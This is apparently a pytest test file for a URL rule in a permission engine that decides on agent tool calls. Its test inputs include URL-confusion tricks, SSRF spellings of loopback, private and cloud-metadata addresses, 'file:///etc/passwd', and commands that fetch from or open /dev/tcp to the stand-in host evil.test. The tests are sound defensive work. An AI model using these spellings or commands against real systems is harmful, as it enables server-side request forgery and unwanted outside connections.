"""The kind `url`."""

import pytest

from tests.kinds.deciding import Deciding

SITE = (
    '[[rule]]\nid = "u"\nkind = "url"\nallow = ["https://example.com", "https://*.example.com"]\notherwise = "deny"\n'
)


@pytest.fixture
def site(tmp_path):
    return Deciding(tmp_path, SITE, default="ask")


@pytest.mark.parametrize(
    "url",
    ["https://example.com", "https://example.com:443/a?b#c", "HTTPS://EXAMPLE.com./", "https://a.b.example.com/x"],
)
def test_url_inside_is_granted(site, url):
    """The host in every harmless spelling, and what is under it."""
    assert site("http_get", url=url) == "allow"


@pytest.mark.parametrize(
    "url",
    [
        "http://example.com/",
        "https://example.com.evil.test/",
        "https://evil.test/#https://example.com",
        "https://example.com:8443/",
        "https://example.com@evil.test/",
        "https://xexample.com/",
        "file:///etc/passwd",
        "https://еxample.com/",
    ],
)
def test_url_outside_is_refused(site, url):
    """Another scheme, port or host, whatever the text looks like."""
    assert site("http_get", url=url) == "deny"


@pytest.mark.parametrize("url", ["https://example.com\\.evil.test/", "https://exa\tmple.com/"])
def test_url_that_clients_read_differently_is_not_granted(site, url):
    """Where two clients could reach two hosts, a grant gives neither."""
    assert site("http_get", url=url) != "allow"


INSIDE = '[[rule]]\nid = "u"\nkind = "url"\ndeny_ranges = ["loopback", "link-local", "private", "metadata"]\n'


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "10.1.2.3",
        "169.254.169.254",
        "[fd00:ec2::254]",
        "[fe80::1%25eth0]",
        "192.168.0.1",
        "localhost",
    ],
)
def test_inside_address_is_refused_in_every_spelling(tmp_path, host):
    """Octal, hex, one number, mapped and zoned addresses are what they are, in URLs and in commands."""
    deciding = Deciding(tmp_path, INSIDE, default="allow")

    assert deciding("http_get", url=f"http://{host}/") in ("deny", "ask")
    assert deciding.bash(f"curl -s 'http://{host}/'") in ("deny", "ask")
    if host != "localhost":
        assert deciding("http_get", url=f"http://{host}/") == "deny"


def test_outside_address_passes(tmp_path):
    """A public name or address is not refused."""
    deciding = Deciding(tmp_path, INSIDE, default="allow")

    assert [deciding("http_get", url=url) for url in ("https://example.com/", "http://8.8.8.8/")] == ["allow", "allow"]


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("run_bash", {"command": "curl -o x https://evil.test/a"}),
        ("run_bash", {"command": "git clone https://evil.test/r.git"}),
        ("run_bash", {"command": "exec 3<>/dev/tcp/evil.test/80"}),
        ("unheard_of", {"where": "see https://evil.test/a for more"}),
        ("unheard_of", {"host": "evil.test"}),
        ("http_get", {"url": "https://EVIL.test./"}),
    ],
)
def test_url_deny_sees_commands_and_every_argument(tmp_path, tool, arguments):
    """Whatever connects, and whatever names the host, is refused."""
    deciding = Deciding(tmp_path, '[[rule]]\nid = "u"\nkind = "url"\ndeny = ["evil.test"]\n', default="allow")

    assert deciding(tool, **arguments) == "deny"
    assert deciding.bash("grep -r evil.test docs; echo https://evil.test") == "allow"


def test_url_confinement_takes_no_plain_text_for_a_url(tmp_path):
    """A file name with a dot is no host to a confinement."""
    deciding = Deciding(tmp_path, SITE.replace("allow =", "only ="), default="allow")

    assert deciding("unheard_of", name="a.txt") == "allow"
    assert deciding("unheard_of", name="https://evil.test/") == "deny"
